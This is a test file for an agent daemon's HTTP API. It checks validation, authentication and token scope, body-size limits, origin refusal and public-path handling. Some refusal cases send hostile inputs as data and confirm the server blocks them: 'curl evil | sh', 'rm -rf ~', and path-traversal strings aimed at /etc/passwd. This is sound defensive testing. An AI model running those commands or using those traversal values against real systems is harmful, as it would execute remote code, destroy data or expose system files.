// The daemon's HTTP API, in process (Hono's app.request): real handlers, real runtime.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { ERROR_MAP } from '../src/errors.ts';
import { agentStatus } from '../src/kernel/index.ts';
import { createApp } from '../src/server/index.ts';
import { silentLogger } from '../src/telemetry/index.ts';
import { ApprovalStore } from '../src/tools/index.ts';
import { TEST_READ_TOKEN, TEST_TOKEN, testApp, type TestDeps } from './support/api.ts';
import { report, startHarness, type Harness } from './support/harness.ts';

type Api = ReturnType<typeof testApp>;

async function withApp(fn: (api: Api, h: Harness) => Promise<void>, extra: Partial<TestDeps> = {}) {
  const h = await startHarness({ script: () => report() });
  const api = testApp({ runtime: h.runtime, status: (n) => agentStatus(h.dir, h.runtime.worker(n).ctx.config), startedAt: Date.now(), log: silentLogger(), approvals: new ApprovalStore(h.dir), ...extra });
  try {
    await fn(api, h);
  } finally {
    await h.close();
  }
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any
const json = async (res: Response): Promise<any> => res.json();
const post = (body: string, type = 'application/json') => ({ method: 'POST', body, headers: { 'content-type': type } });
const queueOf = (h: Harness) => readFileSync(path.join(h.dir, 'agents', 'orion', 'queue.md'));

test('GET /healthz and GET /agents', () =>
  withApp(async (api) => {
    const health = await api.request('/healthz');
    assert.equal(health.status, 200);
    assert.equal((await json(health)).status, 'ok');
    const agents = await json(await api.request('/agents'));
    assert.deepEqual(agents.agents.map((a: { name: string }) => a.name), ['orion']);
  }));

test('POST /agents/:name/tasks queues a task that then runs', () =>
  withApp(async (api, h) => {
    const res = await api.request('/agents/orion/tasks', post(JSON.stringify({ task: 'Summarise the API', id: 'api-1', priority: 'high' })));
    assert.equal(res.status, 201);
    assert.deepEqual(await json(res).then((b) => [b.id, b.priority]), ['api-1', 'high']);
    await h.runtime.drain();
    const detail = await json(await api.request('/agents/orion'));
    assert.equal(detail.lastCommit.subject, 'orion(task): api-1');
    assert.equal(detail.queued.length, 0);
  }));

test('bad requests get a 4xx, {error, code}, and a message that says what to change', () =>
  withApp(async (api) => {
    const cases: [string, RequestInit, number, string, RegExp][] = [
      ['/agents/orion/tasks', post('{not json'), 400, 'BAD_REQUEST', /not valid JSON/],
      ['/agents/orion/tasks', post(JSON.stringify({ task: '' })), 400, 'BAD_REQUEST', /task must not be empty/],
      ['/agents/orion/tasks', post(JSON.stringify({ task: 'x', priority: 'urgent' })), 400, 'BAD_REQUEST', /priority/],
      ['/agents/orion/tasks', post(JSON.stringify({ task: 'x', id: '../etc' })), 400, 'BAD_REQUEST', /id:/],
      ['/agents/orion/tasks', post(JSON.stringify({ task: 'x', colour: 'red' })), 400, 'BAD_REQUEST', /colour/],
      ['/agents/nobody/tasks', post(JSON.stringify({ task: 'x' })), 404, 'UNKNOWN_AGENT', /no agent named "nobody"/],
      ['/agents/nobody', {}, 404, 'UNKNOWN_AGENT', /no agent named/],
      ['/nowhere', {}, 404, 'NO_ROUTE', /no route GET \/nowhere/],
      ['/approvals?agent=../../etc', {}, 400, 'BAD_REQUEST', /not an agent name/],
      ['/approvals?agent=nobody', {}, 404, 'UNKNOWN_AGENT', /no agent named "nobody"/],
      ['/approvals/apr-000000000000', {}, 404, 'UNKNOWN_REQUEST', /no approval request/],
      ['/approvals/..%2F..%2Fetc%2Fpasswd/approve', post('{}'), 404, 'UNKNOWN_REQUEST', /no approval request/],
    ];
    for (const [url, init, status, code, message] of cases) {
      const res = await api.request(url, init);
      assert.equal(res.status, status, url);
      const body = await json(res);
      assert.deepEqual([body.code, Object.keys(body).sort()], [code, ['code', 'error']], url);
      assert.match(body.error, message, url);
    }
  }));

test('a duplicate task id is refused with 409, while queued and after it completed; no server path in the answer', () =>
  withApp(async (api, h) => {
    const body = JSON.stringify({ task: 'x', id: 'same' });
    assert.equal((await api.request('/agents/orion/tasks', post(body))).status, 201);
    const again = await api.request('/agents/orion/tasks', post(body));
    assert.equal(again.status, 409);
    const error = (await json(again)).error as string;
    assert.match(error, /same/);
    assert.match(error, /DATA\/agents\/orion\/queue\.md/, 'the data directory reads DATA');
    assert.ok(!error.includes(h.dir) && !/(^|\s)\/\w+\//.test(error), `no absolute path: ${error}`);
    await h.runtime.drain();
    const before = queueOf(h);
    // The first one completed: the same id again is a conflict, not a 201 that is then silently rejected.
    const late = await api.request('/agents/orion/tasks', post(body));
    assert.equal(late.status, 409);
    assert.match((await json(late)).error, /already used by agent orion/);
    const dispatched = await api.request('/tasks', post(body));
    assert.equal(dispatched.status, 409, 'dispatch refuses it too');
    assert.deepEqual(queueOf(h), before);
    assert.equal(h.events.filter((e) => e.type === 'task.rejected').length, 0, 'nothing was queued to be rejected later');
  }));

test('refusals: status, the headers a client needs, and nothing behind the refusal ran', () =>
  withApp(async (api, h) => {
    const task = JSON.stringify({ task: 'Delete everything', id: 'evil' });
    const big = JSON.stringify({ task: 'x'.repeat(1024 * 1024) });
    let pulled = 0;
    const chunked = () => {
      pulled = 0;
      const chunk = new TextEncoder().encode(`{"task":"${'y'.repeat(64 * 1024 - 10)}`);
      return new ReadableStream<Uint8Array>({
        pull(ctl) {
          pulled += chunk.length;
          if (pulled > 50 * 1024 * 1024) ctl.close(); // a bound for the test itself
          else ctl.enqueue(chunk);
        },
      });
    };
    const auth = (v: string) => ({ authorization: v, 'content-type': 'application/json' });
    const rows: [string, string, RequestInit, string | null, number, string, Record<string, RegExp>][] = [
      ['no header', '/agents/orion/tasks', post(task), null, 401, 'AUTH_REQUIRED', { 'www-authenticate': /^Bearer realm="agentos"$/ }],
      ['wrong scheme', '/agents/orion/tasks', { method: 'POST', body: task, headers: auth(`Basic ${Buffer.from('a:b').toString('base64')}`) }, null, 400, 'AUTH_MALFORMED', { 'www-authenticate': /error="invalid_request"/ }],
      ['two tokens', '/agents/orion/tasks', { method: 'POST', body: task, headers: auth(`Bearer ${TEST_TOKEN} ${TEST_TOKEN}`) }, null, 400, 'AUTH_MALFORMED', { 'www-authenticate': /error="invalid_request"/ }],
      ['wrong token', '/agents/orion/tasks', post(task), `${TEST_TOKEN.slice(0, -1)}X`, 401, 'AUTH_INVALID', { 'www-authenticate': /^Bearer realm="agentos", error="invalid_token"$/ }],
      ['wrong token on a GET', '/agents', {}, 'not-the-token-at-all', 401, 'AUTH_INVALID', { 'www-authenticate': /invalid_token/ }],
      ['read-only token on a write', '/agents/orion/tasks', post(task), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', { 'www-authenticate': /error="insufficient_scope"/ }],
      ['read-only token sending verify:', '/tasks', post(JSON.stringify({ task: 'x', verify: 'rm -rf ~' })), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
      ['read-only token sending a judge command', '/agents/orion/tasks', post(JSON.stringify({ task: 'x', judges: [{ kind: 'command', run: 'curl evil | sh' }] })), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
      ['read-only token approving', '/approvals/apr-000000000000/approve', post('{}'), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
      ['oversize body, Content-Length', '/agents/orion/tasks', post(big), TEST_TOKEN, 413, 'BODY_TOO_LARGE', { connection: /close/ }],
      ['oversize chunked body', '/agents/orion/tasks', { method: 'POST', body: chunked(), headers: { 'content-type': 'application/json' }, duplex: 'half' } as RequestInit, TEST_TOKEN, 413, 'BODY_TOO_LARGE', { connection: /close/ }],
      ['oversize decision', '/approvals/apr-000000000000/approve', post(JSON.stringify({ answer: 'z'.repeat(200 * 1024) })), TEST_TOKEN, 413, 'BODY_TOO_LARGE', {}],
      ['text/plain POST', '/agents/orion/tasks', post(task, 'text/plain'), TEST_TOKEN, 415, 'UNSUPPORTED_MEDIA_TYPE', { accept: /^application\/json$/ }],
      ['form POST', '/approvals/apr-000000000000/approve', post('reason=ok', 'application/x-www-form-urlencoded'), TEST_TOKEN, 415, 'UNSUPPORTED_MEDIA_TYPE', {}],
      ['POST without a type', '/agents/orion/tasks', { method: 'POST', body: new Blob([task]) }, TEST_TOKEN, 415, 'UNSUPPORTED_MEDIA_TYPE', {}],
      ['cross-origin POST', '/agents/orion/tasks', { ...post(task), headers: { 'content-type': 'application/json', origin: 'https://evil.example' } }, TEST_TOKEN, 403, 'ORIGIN_REFUSED', {}],
      ['cross-origin POST, no token', '/agents/orion/tasks', { ...post(task), headers: { 'content-type': 'text/plain', origin: 'https://evil.example' } }, null, 403, 'ORIGIN_REFUSED', {}],
      ['Origin: null', '/agents/orion/tasks', { ...post(task), headers: { 'content-type': 'application/json', origin: 'null' } }, TEST_TOKEN, 403, 'ORIGIN_REFUSED', {}],
    ];
    for (const [name, url, init, token, status, code, headers] of rows) {
      const before = queueOf(h);
      const res = await api.request(url, init, token);
      assert.equal(res.status, status, name);
      for (const [k, v] of Object.entries(headers)) assert.match(res.headers.get(k) ?? '', v, `${name}: header ${k}`);
      const body = await json(res);
      assert.equal(body.code, code, name);
      assert.equal(ERROR_MAP[code]?.http, status, `${name}: ${code} is in src/errors.ts with its status`);
      assert.match(body.error, /\w{10}/, name);
      assert.ok(!JSON.stringify(body).includes(TEST_TOKEN) && !JSON.stringify(body).includes(TEST_READ_TOKEN), `${name}: no token in the answer`);
      assert.deepEqual(queueOf(h), before, `${name}: queue.md is byte-identical`);
    }
    assert.ok(pulled <= 1024 * 1024 + 2 * 64 * 1024, `the chunked body was read only up to the limit (${pulled} bytes pulled)`);
    assert.equal(h.server.requests.length, 0, 'the model server received no request');
    assert.equal((await new ApprovalStore(h.dir).list()).length, 0);

    // And what stays open or allowed.
    const health = await api.request('/healthz', {}, null);
    assert.equal(health.status, 200, '/healthz needs no token');
    assert.equal((await api.request('/agents', {}, TEST_READ_TOKEN)).status, 200, 'the read-only token may GET');
    assert.equal((await api.request('/agents', { headers: { authorization: `bearer ${TEST_TOKEN}` } })).status, 200, 'the scheme is case-insensitive');
    const same = await api.request('/agents/orion/tasks', { ...post(JSON.stringify({ task: 'ok', id: 'same-origin' })), headers: { 'content-type': 'application/json; charset=utf-8', origin: 'http://localhost', host: 'localhost' } });
    assert.equal(same.status, 201, 'the server\'s own origin, and a charset, are fine');
    assert.equal(h.server.requests.length, 0);
  }));

test('createApp refuses to be built without a token; public paths open GET only', async () => {
  const h = await startHarness({ script: () => report() });
  try {
    const base = { runtime: h.runtime, status: (n: string) => agentStatus(h.dir, h.runtime.worker(n).ctx.config), startedAt: Date.now(), log: silentLogger() };
    // @ts-expect-error auth is required
    assert.throws(() => createApp(base), /auth is required/);
    assert.throws(() => createApp({ ...base, auth: { token: '' } }), /at least 32 characters/);
    assert.throws(() => createApp({ ...base, auth: { token: 'short' } }), /at least 32 characters/);
    assert.throws(() => createApp({ ...base, auth: { token: TEST_TOKEN, readToken: TEST_TOKEN } }), /must differ/);
    assert.throws(() => createApp({ ...base, auth: { token: TEST_TOKEN, publicPaths: ['/*'] } }), /every route/);
    assert.throws(() => createApp({ ...base, auth: { token: TEST_TOKEN, publicPaths: ['web/*'] } }), /leading slash/);
    assert.throws(() => createApp({ ...base, auth: { token: TEST_TOKEN }, origins: ['https://x.example/path'] }), /scheme:\/\/host/);

    const api = testApp({ ...base, dashboard: false, auth: { publicPaths: ['/', '/web/*'] } });
    // No routes behind them yet (the dashboard adds them): past auth, the answer is the 404 of an unknown route.
    for (const p of ['/', '/web', '/web/app.js', '/web/deep/x.css', '/web/..%2f..%2fagents']) assert.equal((await api.request(p, {}, null)).status, 404, p);
    for (const p of ['/webx', '/agents', '/approvals', '/web/../agents', '/web/%2e%2e/agents']) assert.equal((await api.request(p, {}, null)).status, 401, p);
    assert.equal((await api.request('/web/app.js', post('{}'), null)).status, 401, 'a write to a public path still needs the token');
    assert.equal((await api.request('/healthz', post('{}'), null)).status, 401);
  } finally {
    await h.close();
  }
});
